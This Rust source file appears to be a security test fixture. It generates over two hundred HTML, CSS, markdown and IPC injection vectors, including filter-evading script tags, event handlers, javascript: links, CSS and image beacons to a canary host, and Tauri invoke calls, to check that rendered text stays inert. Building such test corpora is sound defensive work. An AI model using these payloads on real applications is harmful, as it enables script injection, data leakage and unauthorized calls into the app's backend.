//! Texts that would do something if anybody took them for more than text: scripts, styles that
//! fetch, pictures that tell that they were looked at, and calls to the program behind the page.

/// What a script would do: leave a mark in the page, tell the canary, and call the program.
fn payload(canary: &str) -> [String; 3] {
    [
        "window.pwned=1".to_owned(),
        format!("fetch('{canary}/s')"),
        "window.__TAURI_INTERNALS__.invoke('undo')".to_owned(),
    ]
}

/// At least two hundred of them, all different; `canary` is an address that must never be asked.
pub fn vectors(canary: &str) -> Vec<String> {
    let mut all = Vec::new();
    for js in payload(canary) {
        all.extend(scripts(&js));
        all.extend(handlers(&js));
        all.extend(links(&js));
    }
    all.extend(styles(canary));
    all.extend(trackers(canary));
    all.extend(calls());
    all
}

fn scripts(js: &str) -> Vec<String> {
    let around = [
        "<script>JS</script>",
        "<ScRiPt>JS</sCrIpT>",
        "<script\n>JS</script >",
        "<script/x>JS</script>",
        "<<script>JS//<</script>",
        "\"><script>JS</script>",
        "'-JS-'",
        "</title><script>JS</script>",
        "</textarea><script>JS</script>",
        "</style><script>JS</script>",
        "--><script>JS</script>",
        "]]><script>JS</script>",
        "<svg><script>JS</script></svg>",
        "<math><mi//xlink:href=\"data:x,<script>JS</script>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=JS>\">",
        "{@html '<img src=x onerror=JS>'}",
        "${JS}",
        "{{constructor.constructor('JS')()}}",
        "&lt;script&gt;JS&lt;/script&gt;",
        "+ADw-script+AD4-JS+ADw-/script+AD4-",
        "<scr\u{0}ipt>JS</scr\u{0}ipt>",
        "\u{202e}<script>JS</script>",
    ];
    around.iter().map(|it| it.replace("JS", js)).collect()
}

fn handlers(js: &str) -> Vec<String> {
    let tags =
        ["img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "iframe"];
    let handlers =
        ["onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerover"];
    let each = tags.iter().flat_map(|tag| handlers.iter().map(move |on| (tag, on)));
    each.map(|(tag, on)| format!("<{tag} {on}=\"{js}\">")).collect()
}

fn links(js: &str) -> Vec<String> {
    let around = [
        "<a href=\"javascript:JS\">look</a>",
        "<a href=\"jAvAsCrIpT:JS\">look</a>",
        "<a href=\"java\tscript:JS\">look</a>",
        "<a href=\"\u{1}javascript:JS\">look</a>",
        "<a href=\"vbscript:JS\">look</a>",
        "<a href=\"data:text/html,<script>JS</script>\">look</a>",
        "<iframe src=\"javascript:JS\"></iframe>",
        "<iframe srcdoc=\"<script>JS</script>\"></iframe>",
        "<object data=\"javascript:JS\"></object>",
        "<embed src=\"javascript:JS\">",
        "<form action=\"javascript:JS\"><button>look</button></form>",
        "<button formaction=\"javascript:JS\">look</button>",
        "<svg><a xlink:href=\"javascript:JS\"><text>look</text></a></svg>",
        "javascript:JS",
    ];
    around.iter().map(|it| it.replace("JS", js)).collect()
}

fn styles(canary: &str) -> Vec<String> {
    let around = [
        "<style>@import url(AT/i.css)</style>",
        "<style>*{background:url(AT/b.png)}</style>",
        "<link rel=stylesheet href=AT/l.css>",
        "<p style=\"background:url(AT/p.png)\">",
        "<p style=\"list-style-image:url(AT/l.png)\">",
        "<p style=\"cursor:url(AT/c.cur),auto\">",
        "<style>@font-face{font-family:x;src:url(AT/f.woff)}*{font-family:x}</style>",
        "<style>input[value^=a]{background:url(AT/a)}</style>",
        "<p style=\"position:fixed;inset:0;z-index:9999\">over all</p>",
    ];
    around.iter().map(|it| it.replace("AT", canary)).collect()
}

fn trackers(canary: &str) -> Vec<String> {
    let around = [
        "<img src=AT/1.gif>",
        "<img srcset=\"AT/2.gif 1x\">",
        "<picture><source srcset=AT/3.gif><img></picture>",
        "<video poster=AT/4.gif></video>",
        "<video src=AT/5.mp4 autoplay></video>",
        "<audio src=AT/6.mp3 autoplay></audio>",
        "<link rel=prefetch href=AT/7>",
        "<link rel=preload as=image href=AT/8>",
        "<link rel=preconnect href=AT>",
        "<link rel=icon href=AT/9.ico>",
        "<meta http-equiv=refresh content=\"0;url=AT/10\">",
        "<base href=AT/>",
        "<iframe src=AT/11></iframe>",
        "<object data=AT/12></object>",
        "<embed src=AT/13>",
        "<a href=AT/14 ping=AT/15>look</a>",
        "<input type=image src=AT/16>",
        "<body background=AT/17>",
        "<table background=AT/18><tr><td>x</td></tr></table>",
        "<svg><image href=AT/19.png /></svg>",
        "<svg><use href=AT/20.svg#x /></svg>",
        "![picture](AT/21.png)",
        "[look](AT/22)",
        "AT/23",
    ];
    around.iter().map(|it| it.replace("AT", canary)).collect()
}

/// Calls to the program behind the page.
fn calls() -> Vec<String> {
    let plain = [
        "<img src=\"ipc://localhost/undo\">",
        "<iframe src=\"ipc://localhost/undo\"></iframe>",
        "<iframe src=\"tauri://localhost/\"></iframe>",
        "<form action=\"ipc://localhost/undo\" method=post><input autofocus></form>",
        "<script>window.ipc.postMessage('{\"cmd\":\"undo\"}')</script>",
        "<script>webkit.messageHandlers.ipc.postMessage('undo')</script>",
        "<link rel=stylesheet href=\"ipc://localhost/undo\">",
        "<object data=\"ipc://localhost/undo\"></object>",
    ];
    plain.iter().map(|it| (*it).to_owned()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn there_are_two_hundred_and_no_two_are_alike() {
        let all = vectors("http://127.0.0.1:9");
        assert!(all.len() >= 200, "{}", all.len());
        assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), all.len());
    }
}
